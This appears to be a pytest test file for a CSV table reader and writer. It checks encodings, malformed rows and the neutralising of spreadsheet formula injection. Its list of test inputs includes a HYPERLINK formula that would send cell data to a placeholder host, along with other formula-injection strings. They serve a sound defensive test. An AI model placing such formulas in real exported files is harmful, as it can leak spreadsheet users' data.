"""Tables of text: read as they were meant or refused in a line, and written as no spreadsheet computes them."""

import codecs
import csv
import io
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from eyetest.curate.repair import Repair
from eyetest.errors import InputError
from eyetest.measures.printed import csv_text
from eyetest.recipes.refining import FUNNEL_COLUMNS
from eyetest.records import Verdict
from eyetest.tabular import table
from eyetest.tabular.files import known_table, open_table
from eyetest.tabular.record_files import write_records
from eyetest.tabular.table import MAX_COLUMNS, SeparatedTable, inert, restored
from tests.mutations import mutations, peak_memory, refusals

ROWS = [["item", "question", "A"], ["1", "Größer – oder „Spaß“?", "ä;b"], ["2", "naïve, “quoted”", "1\n2"]]
BOM = codecs.BOM_UTF8


@pytest.fixture(scope="module")
def path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("table") / "quiz.csv"


def written(rows: list[list[str]], separator: str, end: str = "\r\n", quoting: int = csv.QUOTE_MINIMAL) -> str:
    text = io.StringIO(newline="")
    csv.writer(text, delimiter=separator, lineterminator=end, quoting=quoting).writerows(rows)  # type: ignore[arg-type]
    return text.getvalue()


def read(path: Path, data: bytes) -> list[list[str]]:
    path.write_bytes(data)
    return list(SeparatedTable(path).cells())


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig"])
def test_encodings_and_separators(path: Path, encoding: str, separator: str) -> None:
    assert read(path, written(ROWS, separator).encode(encoding)) == ROWS


@pytest.mark.parametrize(
    "data",
    [
        "题目,答案\n谁在睡觉？,我\n".encode("gbk"),
        "вопрос,ответ\nКто спит?,я\n".encode("cp1251"),
        "質問,答え\n誰ですか,私\n".encode("shift_jis"),
        "question,answer\nGrößer?,ä\nÜberall,ä\n".encode().replace("Ü".encode(), b"\xc3"),
        written(ROWS, ";").encode("cp1252"),
        written(ROWS, ";").encode("utf-16"),
        b"question,answer\nWho \x81?,me\n",
    ],
)
def test_other_encodings_and_damaged_text_are_refused(path: Path, data: bytes) -> None:
    with pytest.raises(InputError, match=r"quiz\.csv is not UTF-8: save it"):
        read(path, data)


CELL = st.text(st.one_of(st.sampled_from('"\t\n\r,a'), st.characters(codec="utf-8", exclude_characters="\ufeff\0")))


@pytest.mark.parametrize("end", ["\n", "\r\n"])
@given(rows=st.lists(st.lists(CELL, min_size=1, max_size=5), max_size=6))
def test_a_table_with_every_cell_quoted_gives_its_cells(path: Path, end: str, rows: list[list[str]]) -> None:
    tsv = path.with_suffix(".tsv")
    assert read(tsv, written(rows, "\t", end, csv.QUOTE_ALL).encode()) == [row for row in rows if row != [""]]


@pytest.mark.parametrize("data", [b"", b"\n\r\n\n", b'""\n', BOM, BOM + b"\n"])
def test_blank_lines_are_no_rows(path: Path, data: bytes) -> None:
    assert read(path, data) == []


def test_a_byte_order_mark_is_no_part_of_the_first_cell(path: Path) -> None:
    assert read(path, BOM + b'"index",question\n' + BOM + b"x,y\n") == [["index", "question"], ["\ufeffx", "y"]]


def test_quotes_rows_cells_and_lines_that_are_wrong_are_named(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert read(path, b'"a, b";c\n1;2\n') == [["a, b", "c"], ["1", "2"]]
    with pytest.raises(InputError, match=r"quiz\.csv row 1: the quotes are wrong"):
        read(path, b'a,b\n"c,d\ne\n')
    path.write_bytes(b"a,b\n1,2\n3\n")
    with pytest.raises(InputError, match=r"quiz\.csv row 2: 1 cells under 2 columns"):
        list(open_table(path))
    path.write_bytes(b"question,question\nWho?,me\n")
    with pytest.raises(InputError, match="several columns are called 'question'"):
        list(open_table(path))
    with pytest.raises(InputError, match="more than 100,000 columns"):
        read(path, b",".join([b'""'] * (MAX_COLUMNS + 2)))
    monkeypatch.setattr(table, "MAX_CELL", 12)
    with pytest.raises(InputError, match=r"quiz\.csv row 1: found more than .* MB in a cell"):
        read(path, b"a\n" + b"b" * 13 + b"\n")
    monkeypatch.setattr(table, "MAX_LINE", 16)
    assert read(path, b"a\n" + b"b" * 12 + b"\n") == [["a"], ["b" * 12]]
    with pytest.raises(InputError, match=r"quiz\.csv has a line that is longer than"):
        read(path, b'"a\n' + b"b" * 16 + b'"\n')


def test_mutations(tmp_path: Path) -> None:
    sound, before = written(ROWS * 20, ",").encode(), peak_memory()
    assert refusals(lambda file: list(known_table(file)), tmp_path / "a.csv", mutations(sound, 300))
    assert peak_memory() - before < 2**30


COMPUTED = [
    *(f"{lead}=1" for lead in ("", "\t", "\r", "  ", '"', "'", "''", "\ufeff", "\u200b")),
    *('=HYPERLINK("http://x.invalid/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\n@x", "\u00a0+1", "-0.5", "\t", "'\n"),
    *("＝1+1", " －1", "＋1", "＠x"),
]
HARMLESS = ["a=1", "A. -5", "5", "0.5", "'quoted'", '"quoted"', "", "{}", "π", "'", "x\n=1", "– dash"]


def test_what_would_be_computed_gets_an_apostrophe() -> None:
    assert [inert(text) for text in COMPUTED] == [f"'{text}" for text in COMPUTED]
    assert [inert(text) for text in HARMLESS] == HARMLESS == [restored(text) for text in HARMLESS]


@given(st.text(st.sampled_from("'\"=+-@ \t\nab＝\u200b"), max_size=6) | st.text() | st.sampled_from(COMPUTED))
def test_every_text_comes_back(text: str) -> None:
    assert restored(inert(text)) == text


def test_a_sheet_of_another_program_keeps_its_apostrophes(path: Path) -> None:
    path.write_text("item,text\n1,'-5' is right\n")
    assert [row.values for row in known_table(path)] == [{"item": "1", "text": "'-5' is right"}]


def test_tables_of_results_hold_no_formula_and_numbers_stay_numbers(tmp_path: Path) -> None:
    frame = pl.DataFrame({"model": ["=1", "b", None], "tag.=x": ["+1", "", "c"], "score": [-0.5, 1.0, None]})
    text = csv_text(frame.with_columns(pl.col("model").cast(pl.Categorical)))
    expected = [["model", "'=x", "score"], ["'=1", "'+1", "-0.5"], ["b", "", "1.0"], ["", "c", ""]]
    assert list(csv.reader(io.StringIO(text, newline=""))) == expected
    verdict = Verdict(item="=1", stage="+s", verdict="drop", reason="-r", evidence="@e", n=1)
    write_records([verdict], Verdict, tmp_path / "v.csv", overwrite=False)
    write_records([Repair(item="=1", change="+k", detail="@2")], Repair, tmp_path / "r.csv", overwrite=False)
    (tmp_path / "f.csv").write_text(table.sheet_text(FUNNEL_COLUMNS, [("=s", 3, 1, 1, 1, 0)]))
    for name in ("v.csv", "r.csv", "f.csv"):
        (_, row) = csv.reader((tmp_path / name).read_text().splitlines())
        assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@"))]
        assert len([cell for cell in row if cell.startswith("'")]) >= (1 if name == "f.csv" else 3)
